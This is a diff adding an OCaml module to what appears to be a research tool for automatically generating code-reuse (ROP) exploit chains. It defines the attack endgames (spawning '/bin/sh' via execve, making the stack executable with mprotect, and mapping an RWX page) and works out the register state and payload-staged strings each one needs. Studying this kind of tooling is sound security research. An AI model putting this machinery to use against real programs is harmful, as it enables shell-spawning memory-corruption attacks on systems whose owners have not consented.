@@ -1,0 +1,106 @@
+(* Attack goals (paper §II-B): the three real-world code-reuse endgames.
+
+   A goal concretizes to the register state that must hold when a syscall
+   instruction executes, plus optional memory cells that must have been
+   written first (write-what-where, e.g. staging "/bin/sh" in scratch
+   memory when the binary doesn't already contain it). *)
+
+open Gp_x86
+
+type t =
+  | Execve of string        (* spawn a shell / program *)
+  | Mprotect of int64 * int64 * int64   (* addr, len, prot *)
+  | Mmap of int64 * int64 * int64
+
+let name = function
+  | Execve _ -> "execve"
+  | Mprotect _ -> "mprotect"
+  | Mmap _ -> "mmap"
+
+let default_goals =
+  [ Execve "/bin/sh";
+    (* mark the stack page executable *)
+    Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L);
+    Mmap (0L, 0x1000L, 7L) ]
+
+(* Search the image (code then data) for a NUL-terminated string; returns
+   its absolute address. *)
+let find_string (image : Gp_util.Image.t) (s : string) : int64 option =
+  let needle = s ^ "\000" in
+  let search (bytes : Bytes.t) (base : int64) =
+    let hay = Bytes.to_string bytes in
+    let n = String.length needle in
+    let rec go i =
+      if i + n > String.length hay then None
+      else if String.sub hay i n = needle then Some (Int64.add base (Int64.of_int i))
+      else go (i + 1)
+    in
+    go 0
+  in
+  match search image.Gp_util.Image.data image.Gp_util.Image.data_base with
+  | Some a -> Some a
+  | None -> search image.Gp_util.Image.code image.Gp_util.Image.code_base
+
+(* Chunk a string into little-endian 8-byte words for write-what-where. *)
+let string_words s =
+  let s = s ^ "\000" in
+  let nwords = (String.length s + 7) / 8 in
+  List.init nwords (fun k ->
+      let word = Bytes.make 8 '\000' in
+      let len = min 8 (String.length s - (8 * k)) in
+      Bytes.blit_string s (8 * k) word 0 len;
+      Bytes.get_int64_le word 0)
+
+type concrete = {
+  goal : t;
+  regs : (Reg.t * int64) list;        (* register state at the syscall *)
+  mem : (int64 * int64) list;         (* cells that must be written first *)
+}
+
+(* Where attacker-built strings are staged.  The default is INSIDE the
+   payload region (between the chain cells and the pin area), so staging
+   needs no write gadgets: the cells arrive with the smashed stack.
+   [scratch_staging_addr] is the alternative for write-what-where chains
+   that build the string at run time. *)
+let staging_addr () = Int64.add (Layout.payload_base ()) 0x600L
+
+let scratch_staging_addr = 0x704000L
+
+let concretize (image : Gp_util.Image.t) (goal : t) : concrete =
+  match goal with
+  | Execve path -> (
+    match find_string image path with
+    | Some addr ->
+      { goal;
+        regs = [ (Reg.RAX, 59L); (Reg.RDI, addr); (Reg.RSI, 0L); (Reg.RDX, 0L) ];
+        mem = [] }
+    | None ->
+      (* stage the string in the payload itself *)
+      let base = staging_addr () in
+      let words = string_words path in
+      { goal;
+        regs =
+          [ (Reg.RAX, 59L); (Reg.RDI, base); (Reg.RSI, 0L); (Reg.RDX, 0L) ];
+        mem =
+          List.mapi
+            (fun k w -> (Int64.add base (Int64.of_int (8 * k)), w))
+            words })
+  | Mprotect (addr, len, prot) ->
+    { goal;
+      regs = [ (Reg.RAX, 10L); (Reg.RDI, addr); (Reg.RSI, len); (Reg.RDX, prot) ];
+      mem = [] }
+  | Mmap (addr, len, prot) ->
+    { goal;
+      regs = [ (Reg.RAX, 9L); (Reg.RDI, addr); (Reg.RSI, len); (Reg.RDX, prot) ];
+      mem = [] }
+
+(* Does an emulator outcome satisfy the goal? *)
+let satisfied (c : concrete) (outcome : Gp_emu.Machine.outcome) =
+  match c.goal, outcome with
+  | Execve path, Gp_emu.Machine.Attacked (Gp_emu.Machine.Execve { path = p; argv; envp })
+    -> p = path && argv = 0L && envp = 0L
+  | Mprotect (a, l, pr), Gp_emu.Machine.Attacked (Gp_emu.Machine.Mprotect { addr; len; prot })
+    -> addr = a && len = l && prot = pr
+  | Mmap (a, l, pr), Gp_emu.Machine.Attacked (Gp_emu.Machine.Mmap { addr; len; prot })
+    -> addr = a && len = l && prot = pr
+  | _ -> false
